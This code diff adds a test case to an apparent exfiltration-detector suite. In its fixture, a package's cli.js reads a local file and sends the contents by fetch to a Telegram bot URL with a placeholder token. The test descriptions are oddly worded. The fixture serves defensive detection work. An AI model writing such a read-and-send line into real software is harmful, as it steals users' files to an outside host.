@@ -11,6 +11,15 @@ const workers = ['none', 'workers', 'dev'].join('.');
 examine(sendsToDeadDrop, {
   speaks: [
     {
+      when: 'what is read stands behind the bot that the package brings, in what it is asked',
+      files: {
+        'package.json': { name: 'x', bin: 'cli.js' },
+        'cli.js': `fetch('https://${telegram}/bot1234567890:' + 'A'.repeat(35) + '/' + globalThis.how(require('fs').readFileSync('a')))`,
+      },
+      weight: 'strong',
+      says: ['sends data'],
+    },
+    {
       when: 'a variable says where a request goes, and stands in what it asks there as well',
       files: {
         'package.json': { name: 'x', bin: 'cli.js' },
